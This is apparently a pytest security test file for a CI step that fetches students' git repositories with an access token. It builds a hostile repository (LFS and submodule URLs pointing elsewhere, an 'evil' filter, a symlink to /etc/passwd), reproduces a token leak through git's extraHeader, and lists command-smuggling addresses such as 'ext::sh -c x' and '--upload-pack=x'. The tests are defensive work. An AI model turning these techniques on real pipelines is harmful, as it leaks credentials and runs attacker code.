"""The step that fetches students' repositories: its token reaches one host, and nothing of a repository is started."""

from __future__ import annotations

import base64
import os
import subprocess
from pathlib import Path

import pytest

from tests.e2e.git_server import Host, serving
from tests.e2e.test_ci_workflows import WORKFLOWS, Runner, small_course, steps_of
from tests.hostile.repositories import git

TOKEN = "a-token-that-reads-all-repositories"
HEADER = "Basic " + base64.b64encode(f"x-access-token:{TOKEN}".encode()).decode()
(STEP,) = [step for step in steps_of(WORKFLOWS[1]) if "COLLECT_TOKEN" in step.get("env", {})]


def hostile_repository(folder: Path, other: Host) -> None:
    """Make a repository that names another host wherever git, or git-lfs, would follow."""
    folder.mkdir(parents=True)
    git(folder, "init", "-q")
    (folder / "inverse.ipynb").write_bytes(b"{}")
    (folder / ".lfsconfig").write_text(f"[lfs]\nurl = {other.address}/lfs\n[remote]\nlfsurl = {other.address}/lfs\n")
    (folder / ".gitattributes").write_text("*.ipynb filter=lfs diff=lfs merge=lfs -text\n*.bin filter=evil\n")
    (folder / ".gitmodules").write_text(f'[submodule "m"]\npath = m\nurl = {other.address}/m\nupdate = !touch x\n')
    (folder / "data.bin").write_bytes(b"x")
    (folder / "link.ipynb").symlink_to("/etc/passwd")
    git(folder, "add", ".")
    git(folder, "update-index", "--add", "--cacheinfo", f"160000,{'1' * 40},m")
    git(folder, "commit", "-q", "-m", "done")


def programs(home: Path, marks: Path) -> None:
    """Let git-lfs be installed for the runner's user, as it is on GitHub's machines, and every hook leave a marker."""
    hooks = home / "template" / "hooks"
    for folder in (hooks, marks):
        folder.mkdir(parents=True)
    for path in (home / "filter", hooks / "post-checkout", hooks / "reference-transaction"):
        path.write_text(f"#!/bin/sh\ntouch '{marks / path.name}'\ncat\n")
        path.chmod(0o755)
    lines = [f"[init]\ntemplateDir = {home / 'template'}"]
    for name in ("lfs", "evil"):
        lines.append(f'[filter "{name}"]\nclean = {home / "filter"}\nsmudge = {home / "filter"}\nrequired = true')
    (home / ".gitconfig").write_text("\n".join(lines) + "\n")


def fetch(root: Path, address: str) -> tuple[Runner, str]:
    """Run the step for a class of two, and return the runner and what was printed."""
    values = {"vars.REPOSITORIES": address, "secrets.COLLECT_TOKEN": TOKEN}
    runner = Runner(root / "runner", values, {"ASSIGNMENT": "inverse"})
    small_course(runner.work, ["ada", "bob"])
    programs(root / "runner", root / "marks")
    return runner, runner.step(STEP)


@pytest.mark.slow
def test_the_token_reaches_the_host_of_the_repositories_and_no_other(tmp_path: Path) -> None:
    with serving() as other, serving(tmp_path / "class", moved={"/inverse-bob": other.address}) as host:
        hostile_repository(tmp_path / "class" / "inverse-ada", other)
        runner, printed = fetch(tmp_path, f"{host.address}/inverse-")
        assert other.asked == []
        assert host.asked
        assert {header for _, header in host.asked} == {HEADER}
    clone = runner.work / "generated" / "repositories" / "ada"
    assert (clone / "inverse.ipynb").read_bytes() == b"{}"
    assert not (clone / "link.ipynb").is_symlink()
    assert list((tmp_path / "marks").iterdir()) == []
    assert "::warning title=not collected::bob" in printed
    assert TOKEN not in printed + (clone / ".git" / "config").read_text()
    assert HEADER not in printed + (clone / ".git" / "config").read_text()


@pytest.mark.slow
def test_the_attack_works_on_a_header_for_every_host(tmp_path: Path) -> None:
    """The step as it was: the filter of the user runs, and the header goes wherever git is told to go."""
    with serving() as other, serving(tmp_path / "class") as host:
        hostile_repository(tmp_path / "class" / "inverse-ada", other)
        programs(tmp_path / "home", tmp_path / "marks")
        environment = {"PATH": os.environ["PATH"], "HOME": str(tmp_path / "home"), "GIT_CONFIG_NOSYSTEM": "1"}
        command = ["git", "-c", f"http.extraHeader=Authorization: {HEADER}"]
        clone = [*command, "clone", "-q", f"{host.address}/inverse-ada", str(tmp_path / "clone")]
        subprocess.run(clone, env=environment, check=True, capture_output=True, timeout=60)
        look = [*command, "ls-remote", f"{other.address}/lfs"]
        subprocess.run(look, env=environment, check=False, capture_output=True, timeout=60)
        assert (tmp_path / "marks" / "filter").exists()
        assert {header for _, header in other.asked} == {HEADER}


@pytest.mark.parametrize("address", ["http://example.org/x-", "git@example.org:x-", "ext::sh -c x", "--upload-pack=x"])
def test_an_address_that_would_show_the_token_is_refused(tmp_path: Path, address: str) -> None:
    runner = Runner(tmp_path, {"vars.REPOSITORIES": address, "secrets.COLLECT_TOKEN": TOKEN}, {})
    process = runner.start(STEP)
    assert "it must begin with https://" in process.communicate(timeout=60)[0]
    assert process.returncode == 2


def test_no_other_step_holds_the_token() -> None:
    assert [step["name"] for step in steps_of(WORKFLOWS[1]) if "COLLECT_TOKEN" in str(step)] == [STEP["name"]]
